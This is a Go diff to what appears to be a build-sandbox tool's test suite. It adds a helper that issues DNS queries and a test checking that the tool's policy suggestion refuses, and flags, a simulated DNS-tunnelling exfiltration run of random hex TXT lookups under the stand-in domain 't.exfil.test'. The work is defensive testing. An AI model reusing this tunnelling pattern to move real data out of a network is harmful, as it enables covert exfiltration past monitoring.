@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"crypto/rand"
 	"crypto/sha256"
 	"encoding/hex"
 	"errors"
@@ -69,8 +70,10 @@ func measure(args []string) int {
 	return cmd.ProcessState.ExitCode()
 }
 
+func n2(s string) int { n, _ := strconv.Atoi(s); return n }
+
 func resHelper(args []string) int {
-	n, _ := strconv.Atoi(args[1])
+	n := n2(args[1])
 	switch args[0] {
 	case "dns":
 		// Sequential queries of distinct names, each answered (NXDOMAIN)
@@ -99,6 +102,26 @@ func resHelper(args []string) int {
 			}
 		}
 		fmt.Printf("answered %d of %d\n", answered, n)
+		return 0
+	case "ask":
+		// "ask NAME..." asks each NAME (A); "ask hex N SUFFIX" asks N TXT
+		// names of three short hex labels under SUFFIX.
+		qt, names := dns.TypeA, args[1:]
+		if args[1] == "hex" {
+			qt, names = dns.TypeTXT, nil
+			for range n2(args[2]) {
+				b := make([]byte, 30)
+				rand.Read(b)
+				h := hex.EncodeToString(b)
+				names = append(names, h[:20]+"."+h[20:40]+"."+h[40:]+"."+args[3])
+			}
+		}
+		cl := &dns.Client{Timeout: 5 * time.Second}
+		for _, name := range names {
+			m := new(dns.Msg)
+			m.SetQuestion(dns.Fqdn(name), qt)
+			cl.Exchange(m, "192.0.2.53:53")
+		}
 		return 0
 	case "conns":
 		addr := "127.0.0.1:" + args[2]
@@ -475,4 +498,46 @@ func lastLine(out, prefix string) string {
 func sha256hex(b []byte) string {
 	s := sha256.Sum256(b)
 	return hex.EncodeToString(s[:])
+}
+
+// TestSuggestFromHostileAuditRun: an audit run whose build looks up
+// "*.com", "npm" and "github", and one that tunnels through TXT queries
+// of short hex labels at fewer than 50 names a minute; policy
+// suggest, through the binary, allows none of it and lists it as seen,
+// not suggested.
+func TestSuggestFromHostileAuditRun(t *testing.T) {
+	skipWithoutUserns(t)
+	helper := helperCopy(t)
+	for _, u := range users {
+		t.Run(u.name, func(t *testing.T) {
+			cred := credFor(t, u.uid)
+			dir := workdir(t, u.uid)
+			r := buildwall(t, dir, cred, []string{resEnv + "=ask *.com npm github"}, "run", "--mode", "audit", "--report", "a.json", "--", helper)
+			if r.code != 0 {
+				t.Fatalf("audit run exit %d", r.code)
+			}
+			r = buildwall(t, dir, cred, []string{resEnv + "=ask hex 45 t.exfil.test"}, "run", "--mode", "audit", "--report", "b.json", "--", helper)
+			if r.code != 0 {
+				t.Fatalf("audit run exit %d", r.code)
+			}
+			for _, rep := range []string{"a.json", "b.json"} {
+				r = buildwall(t, dir, cred, nil, "policy", "suggest", "--report", rep)
+				if r.code != 0 {
+					t.Fatalf("suggest exit %d", r.code)
+				}
+				allow := r.stdout[strings.Index(r.stdout, "allow:"):]
+				for _, bad := range []string{"*", "npm", "github", "exfil"} {
+					if strings.Contains(allow, bad) {
+						t.Errorf("%s: suggested policy allows %q:\n%s", rep, bad, r.stdout)
+					}
+				}
+				if !strings.Contains(r.stdout, "Seen, not suggested") {
+					t.Errorf("%s: no seen-not-suggested list:\n%s", rep, r.stdout)
+				}
+			}
+			if !strings.Contains(r.stdout, "t.exfil.test: suspected dns tunnelling") {
+				t.Errorf("tunnelling names not listed:\n%s", r.stdout)
+			}
+		})
+	}
 }
